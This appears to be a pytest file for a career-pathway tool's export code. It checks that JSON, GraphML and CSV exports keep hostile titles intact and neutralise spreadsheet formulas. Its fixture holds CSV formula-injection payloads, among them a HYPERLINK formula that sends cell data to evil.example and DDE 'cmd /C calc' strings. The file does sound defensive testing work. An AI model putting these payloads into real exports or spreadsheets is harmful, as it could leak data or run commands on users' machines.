"""Exports parse, and carry hostile titles as text: JSON, GraphML and CSV read back with standard parsers."""

from __future__ import annotations

import csv
import doctest
import io
import json
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

import pathfinder.export
from pathfinder.export import csv_cell, render
from pathfinder.graph import Pathways, load_pathways

HOSTILE_TITLES = {
    "school-leaver": '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "dispensing-assistant": "+1+cmd|' /C calc'!A0",
    "pharmacy-technician": "-2 & <b>bold</b> ]]> \"quoted\"",
    "level-2-pharmacy-services": "@SUM(1+1)*cmd|' /C calc'!A0",
    "trainee-pharmacy-technician": "\uff34rainee 💊 pharmacy; technician, \u00e9t\u00e9",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _starts_a_formula(text: str) -> bool:
    """What a spreadsheet may read as a formula: a formula sign first, or after spaces and invisible characters,
    in any width (U+FF1D full-width equals folds to "=")."""
    rest = "".join(char for i, char in enumerate(text)
                   if not all(c.isspace() or unicodedata.category(c) == "Cf" for c in text[:i + 1]))
    return text.startswith(FORMULA_START) or unicodedata.normalize("NFKC", rest[:1]).startswith(FORMULA_START)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Pathways:
    root = tmp_path_factory.mktemp("hostile") / "pathways"
    shutil.copytree(Path(__file__).parent / "data" / "valid", root)
    for path in root.rglob("*.yaml"):
        title = json.dumps(HOSTILE_TITLES[path.stem], ensure_ascii=False)  # a YAML double-quoted scalar
        path.write_text("\n".join(f"title: {title}" if line.startswith("title:") else line
                                  for line in path.read_text().splitlines()) + "\n")
    pathways = load_pathways(root)
    assert pathways.problems == []
    return pathways


def test_json_export_reads_back_as_the_same_graph(hostile: Pathways) -> None:
    G = nx.node_link_graph(json.loads(render(hostile, "json")), edges="edges")
    assert nx.utils.graphs_equal(G, hostile.graph)
    assert dict(G.nodes(data="title")) == HOSTILE_TITLES


def test_graphml_export_is_well_formed_and_keeps_titles(hostile: Pathways) -> None:
    text = render(hostile, "graphml")
    ET.fromstring(text.encode("utf-8"))  # well-formed XML, or this raises
    G = nx.parse_graphml(text)
    assert dict(G.nodes(data="title")) == HOSTILE_TITLES
    assert set(G.edges) == set(hostile.graph.edges)


def test_csv_export_neutralises_formulas_and_keeps_the_text(hostile: Pathways) -> None:
    rows = list(csv.DictReader(io.StringIO(render(hostile, "csv"))))
    assert {row["id"] for row in rows} == set(HOSTILE_TITLES)
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row
        original = HOSTILE_TITLES[row["id"]]
        expected = "'" + original if _starts_a_formula(original) else original
        assert row["title"] == expected


def test_csv_cells_doctests() -> None:
    assert doctest.testmod(pathfinder.export).failed == 0  # type: ignore[arg-type]


def _graph_titled(title: str) -> nx.DiGraph:
    from datetime import date

    from pathfinder.graph import build_graph
    from pathfinder.schema import Stage

    common = {"summary": "S", "sources": [{"url": "https://example.org/a", "title": "A"}],
              "reviewed": date(2026, 1, 1)}
    return build_graph([Stage.model_validate({"id": "here", "kind": "start", "title": title, **common},
                                             context={"today": date(2026, 1, 1)})])


#: Characters at the edges of what XML, CSV, JSON and terminals allow, mixed into the generated titles.
EDGES = ["\x00", "\x1b", "\t", "\n", "\r", "\x85", "\u2028", "\u202e", "\u200b", "\ud7ff", "\ue000", "\ufdd0",
         "\ufffe", "\uffff", "\U0010ffff", "&", "<", "]", ">", '"', ",", "=", "@"]


def _exports_carry(title: str) -> None:
    """Either the checker refuses the title, or every export reads back holding it exactly."""
    try:
        G = _graph_titled(title)
    except ValidationError:
        return  # refused with a located error; nothing is exported
    pathways = Pathways(stages={}, graph=G, problems=[])
    assert nx.parse_graphml(render(pathways, "graphml")).nodes["here"]["title"] == title
    assert json.loads(render(pathways, "json"))["nodes"][0]["title"] == title
    [row] = list(csv.DictReader(io.StringIO(render(pathways, "csv"))))
    assert row["title"] == ("'" + title if _starts_a_formula(title) else title)


@pytest.mark.parametrize("char", EDGES)
def test_edge_characters_are_refused_or_survive_every_export(char: str) -> None:
    _exports_carry(f"{char}Pharmacy {char} technician{char}")


@settings(max_examples=300, deadline=None)
@given(title=st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from(EDGES)), min_size=1, max_size=30))
def test_every_title_the_checker_accepts_survives_every_export(title: str) -> None:
    _exports_carry(title)


@pytest.mark.parametrize("text", [" =1+1", "  +SUM(A1)", "\u00a0-2+3", "\u3000@SUM(A1)", "\uff1d1+1", "\ufe661+1",
                                  " \uff0b1", "\uff201", "\u200b=1", "\n=1", "\t\t=1"])
def test_a_formula_after_spaces_or_in_full_width_is_neutralised(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Pharmacy technician", "1 = 1", "A+", "£28,000", " Level 2"])
def test_text_that_starts_no_formula_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text
